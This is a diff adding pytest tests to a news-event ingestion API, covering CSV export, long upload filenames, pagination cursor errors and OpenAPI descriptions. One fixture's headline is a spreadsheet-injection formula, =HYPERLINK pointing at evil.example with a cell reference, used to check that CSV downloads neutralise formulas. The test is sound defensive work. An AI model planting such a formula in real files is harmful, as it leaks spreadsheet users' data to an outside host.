@@ -360,3 +360,59 @@ def test_a_version_2_store_is_migrated_with_admin1_and_day_filled(tmp_path: Path
     finally:
         store.close()
     assert rows == [{"place_admin1": "Diyala", "day": date(2024, 3, 1)}, {"place_admin1": None, "day": date(2024, 4, 3)}]
+
+
+FORMULA_STORY = b"""=HYPERLINK("http://evil.example/?x="&A1,"Click") Militants shell Gao
+
+GAO, Mali, June 4 - Militants shelled an army camp in Gao on Monday, killing three soldiers,
+officials said.
+"""
+
+
+def test_csv_downloads_neutralise_spreadsheet_formulas(upload_client: TestClient) -> None:
+    response = upload_client.post("/api/ingest", files={"file": ("gao.txt", FORMULA_STORY)}, headers={"X-Flashpoint-Token": TOKEN})
+    assert response.status_code == 200, response.text
+    article_id = response.json()["article_id"]
+    download = upload_client.get("/api/events", params={"format": "csv", "q": "Gao"})
+    rows = [r for r in csv.DictReader(io.StringIO(download.text)) if r["article_id"] == article_id]
+    assert rows
+    for row in rows:
+        # A spreadsheet would run a cell starting with = + - @ as a formula; the leading
+        # apostrophe makes it text, and the rest of the cell is kept as it was.
+        assert row["article.title"].startswith("'=HYPERLINK(")
+        for column, value in row.items():
+            if value.startswith(("=", "+", "-", "@")):
+                assert column in ("place.lat", "place.lon") and float(value) < 0, (column, value)
+    # Numbers keep their sign (Gao lies west of Greenwich): only text is neutralised.
+    assert any(float(row["place.lon"]) < 0 for row in rows if row["place.lon"])
+    # JSON keeps the exact text.
+    assert get(upload_client, "/api/events", q="Gao")["events"][0]["article"]["title"].startswith("=HYPERLINK(")
+
+
+@pytest.mark.parametrize("name", ["日本語" * 80 + ".txt", "a" * 300 + ".txt"])
+def test_an_upload_with_a_very_long_name_keeps_its_type(upload_client: TestClient, name: str) -> None:
+    response = upload_client.post("/api/ingest", files={"file": (name, KIDAL_STORY + b"\nAgain.")}, headers={"X-Flashpoint-Token": TOKEN})
+    assert response.status_code == 200, response.text
+    doc_id = response.json()["document"]["doc_id"]
+    assert doc_id.endswith(".txt") and len(doc_id.encode()) <= 200
+
+
+def test_a_cursor_from_another_order_is_named_as_such(client: TestClient) -> None:
+    by_date = get(client, "/api/events", limit=3)["next_cursor"]
+    response = client.get("/api/events", params={"cursor": by_date, "sort": "-fatalities"})
+    assert response.status_code == 422
+    assert response.json()["detail"] == "cursor: was made for sort=-date, not sort=-fatalities"
+    article_cursor = get(client, "/api/articles", limit=3)["next_cursor"]
+    response = client.get("/api/events", params={"cursor": article_cursor})
+    assert response.status_code == 422 and "sort=-published" in response.json()["detail"]
+
+
+def test_openapi_describes_path_parameters_and_the_actor_search(client: TestClient) -> None:
+    schema = get(client, "/openapi.json")
+    for path, methods in schema["paths"].items():
+        for operation in methods.values():
+            assert operation.get("description") or operation.get("summary"), path
+            for parameter in operation.get("parameters", []):
+                assert parameter.get("description"), (path, parameter["name"])
+    (q,) = [p for p in schema["paths"]["/api/actors"]["get"]["parameters"] if p["name"] == "q"]
+    assert q["description"].startswith("Part of the actor's id or name")
